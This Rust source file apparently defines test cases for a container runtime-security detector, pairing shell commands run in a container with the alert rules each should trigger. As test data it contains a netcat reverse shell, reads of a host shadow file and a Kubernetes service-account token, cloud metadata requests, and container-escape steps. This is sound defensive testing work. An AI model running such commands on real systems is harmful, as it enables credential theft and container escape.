//! What is done in containers.

use crate::action::Place::{Container, Stage};
use crate::action::{Action, action};

pub(crate) fn actions() -> Vec<Action> {
    [start(), escapes(), tools(), files(), network()].concat()
}

fn start() -> Vec<Action> {
    const ID: (&str, &str) = ("container.id", "$ID");
    vec![
        action("first-process", Container, "act first date")
            .raises("Launch Disallowed Container", &[ID, ("proc.name", "date")])
            .raises("Container Run as Root User", &[ID, ("user.uid", "0")])
            .raises(
                "Change namespace privileges via unshare",
                &[("evt.arg.flags", "CLONE_NEWPID"), ("proc.name", "act")],
            )
            .raises("Launch Excessively Capable Container", &[ID, ("thread.cap_permitted", "*CAP_SYS_ADMIN*")]),
        action("terminal", Container, "act tty bash --version").raises(
            "Terminal shell in container",
            &[ID, ("proc.name", "bash"), ("proc.pname", "act"), ("proc.sname", "bash")],
        ),
        action("shell-without-terminal", Container, "bash --version"),
        action("shell-on-host", Stage, "act tty bash --version"),
        action("dropped", Container, "cp $T/act /usr/bin/dropped && /usr/bin/dropped")
            .raises("Write below binary dir", &[("fd.name", "/usr/bin/dropped")])
            .raises("Container Drift Detected (open+create)", &[("fd.name", "/usr/bin/dropped"), ("proc.name", "cp")])
            .raises(
                "Drop and execute new binary in container",
                &[ID, ("proc.exepath", "/usr/bin/dropped"), ("proc.name", "dropped")],
            ),
        action("made-executable", Container, "touch $T/stage/late && chmod u+x $T/stage/late").raises(
            "Container Drift Detected (chmod)",
            &[("fs.path.name", "$T/stage/late"), ("evt.arg.mode", "*S_IXUSR*")],
        ),
        action("born-executable", Container, "act executable $T/stage/early")
            .raises("Container Drift Detected (open+create)", &[("fd.name", "$T/stage/early")]),
        action("start-program", Container, "touch /usr/bin/entrypoint.sh")
            .raises("Write below binary dir", &[])
            .raises("Modify Container Entrypoint", &[("fd.name", "/usr/bin/entrypoint.sh")]),
    ]
}

fn escapes() -> Vec<Action> {
    vec![
        action("own-namespaces", Container, "act own-names").raises(
            "Change namespace privileges via unshare",
            &[("evt.arg.flags", "*CLONE_NEWNS*"), ("thread.cap_permitted", "*CAP_SYS_ADMIN*")],
        ),
        action("own-namespaces-on-host", Stage, "act own-names"),
        action("groups", Container, "mkdir $T/stage/groups; act groups $T/stage/groups")
            .raises("Cgroup Mounted in Container", &[("evt.arg.dir", "$T/stage/groups"), ("evt.arg.type", "cgroup2")]),
        action("device", Container, "act device $T/stage/disk").raises(
            "Device Node Made in Container",
            &[("evt.arg.path", "$T/stage/disk"), ("evt.arg.mode", "*S_IFCHR*"), ("evt.arg.dev", "1992")],
        ),
        action("disk", Container, "mkdir $T/stage/disk && mount -t tmpfs /dev/vdz $T/stage/disk").raises(
            "Disk Mounted in Container",
            &[("evt.arg.dev", "/dev/vdz"), ("evt.arg.dir", "$T/stage/disk"), ("proc.name", "mount")],
        ),
        action("leaked-folder", Container, "exec 7</; cd /proc/self/fd/7; /usr/bin/true").raises(
            "Container Started in Leaked Directory",
            &[("proc.cwd", "/proc/self/fd/7/"), ("proc.name", "true")],
        ),
        action("root-changed", Container, "mkdir /mnt/root; act change-root /mnt/root")
            .raises("Root Changed into Host File System", &[("evt.arg.path", "/mnt/root")]),
        action("link-out", Container, "ln -s / /var/log/all")
            .raises("Symlink Out of Shared Folder", &[("evt.arg.target", "/"), ("evt.arg.linkpath", "/var/log/all")]),
        action("by-handle", Container, "touch $T/stage/file; act by-handle $T/stage/file")
            .raises("File Opened by Handle in Container", &[("fd.name", "$T/stage/file")]),
        action("release-agent", Container, ": > $T/stage/release_agent")
            .raises("Detect release_agent File Container Escapes", &[("fd.name", "$T/stage/release_agent")]),
        action("kernel-setting", Container, "act open-to-write /proc/sys/kernel/randomize_va_space").raises(
            "Kernel Control File Written from Container",
            &[("fd.name", "/proc/sys/kernel/randomize_va_space")],
        ),
        action("keys", Container, "act keys")
            .raises("Kernel Keyring Used in Container", &[("evt.arg.operation", "KEYCTL_DESCRIBE")]),
        action("runtime-socket", Container, "act unix-to-self $T/stage/docker.sock")
            .raises("Container Runtime Socket Used from Container", &[("fd.name", "*docker.sock")]),
    ]
}

fn tools() -> Vec<Action> {
    vec![
        action("scanner-inside", Container, "nmap x")
            .raises("Launch Suspicious Network Tool in Container", &[("proc.cmdline", "nmap x")]),
        action("remote-shell-inside", Container, "nc -e /bin/sh 127.0.0.1 1")
            .raises("Launch Suspicious Network Tool in Container", &[])
            .raises("Netcat Remote Code Execution in Container", &[("proc.name", "nc")]),
        action("packages", Container, "apt-get install nmap")
            .raises("Launch Package Management Process in Container", &[("proc.cmdline", "apt-get install nmap")]),
        action("packages-asked", Container, "apt-get --version"),
        action("copied-out", Container, "scp a b:c")
            .raises("Launch Remote File Copy Tools in Container", &[("proc.cmdline", "scp a b:c")]),
        action("fetched", Container, "wget http://example.org/x").raises(
            "Launch Ingress Remote File Copy Tools in Container",
            &[("proc.cmdline", "wget http://example.org/x")],
        ),
        action("decoded", Container, "echo eA== | base64 -d")
            .raises("Decoding Payload in Container", &[("proc.name", "base64")]),
        action("cluster-client", Container, "kubectl get pods")
            .raises("Kubernetes Client Tool Launched in Container", &[("proc.cmdline", "kubectl get pods")]),
        action("runtime-client", Container, "docker ps")
            .raises("Container Runtime Client in Container", &[("proc.cmdline", "docker ps")]),
        action("packed", Container, "runc spawn tar cf - $T/act > /dev/null").raises(
            "Exfiltrating Artifacts via Kubernetes Control Plane",
            &[("proc.pname", "runc"), ("proc.name", "tar"), ("proc.cwd", "$T/")],
        ),
    ]
}

fn files() -> Vec<Action> {
    vec![
        action(
            "host-passwords",
            Container,
            "mkdir -p /mnt/host/etc; touch /mnt/host/etc/shadow; cat /mnt/host/etc/shadow",
        )
        .raises("Account File Written Directly", &[("fd.name", "/mnt/host/etc/shadow"), ("proc.name", "touch")])
        .raises("Read sensitive file untrusted", &[("fd.name", "/mnt/host/etc/shadow"), ("proc.name", "cat")])
        .raises("Container Access to Host Sensitive Paths", &[("fd.name", "/mnt/host/etc/shadow")]),
        action(
            "token",
            Container,
            "d=$T/stage/secrets/kubernetes.io/serviceaccount; mkdir -p $d; touch $d/token; cat $d/token",
        )
        .raises(
            "Service Account Token Read by Tool",
            &[("fd.name", "$T/stage/secrets/kubernetes.io/serviceaccount/token"), ("proc.name", "cat")],
        ),
    ]
}

fn network() -> Vec<Action> {
    const UDP: &str = "Unexpected UDP Traffic";
    vec![
        action("packets", Container, "act packet").raises(
            "Packet socket created in container",
            &[("evt.args", "*AF_PACKET*"), ("evt.type", "socket"), ("proc.name", "act")],
        ),
        action("streams", Container, "act streams-on 127.0.0.1 $PORT").raises(
            "Redirect STDOUT/STDIN to Network Connection in Container",
            &[("fd.name", "*->127.0.0.1:$PORT"), ("evt.rawres", "0"), ("fd.l4proto", "tcp")],
        ),
        action("metadata-inside", Container, "act net 169.254.169.254 -- act udp 169.254.169.254 80")
            .raises("Contact EC2 Instance Metadata Service From Container", &[("fd.name", "*->169.254.169.254:80")])
            .raises(UDP, &[]),
        action("task-credentials", Container, "act net 169.254.170.2 -- act udp 169.254.170.2 80")
            .raises("Contact cloud metadata service from container", &[("fd.name", "*->169.254.170.2:80")])
            .raises(UDP, &[]),
        action("cluster", Container, "act net 10.9.8.7 -- act tcp-to-self 10.9.8.7 6443").raises(
            "Contact K8S API Server From Container",
            &[("fd.name", "*->10.9.8.7:6443"), ("evt.type", "connect")],
        ),
        action("node-port", Container, "act net 10.9.8.7 -- act tcp-to-self 10.9.8.7 30080")
            .raises("Unexpected K8s NodePort Connection", &[("fd.name", "*->10.9.8.7:30080")]),
        action("other-port", Container, "act net 10.9.8.7 -- act tcp-to-self 10.9.8.7 8081"),
    ]
}
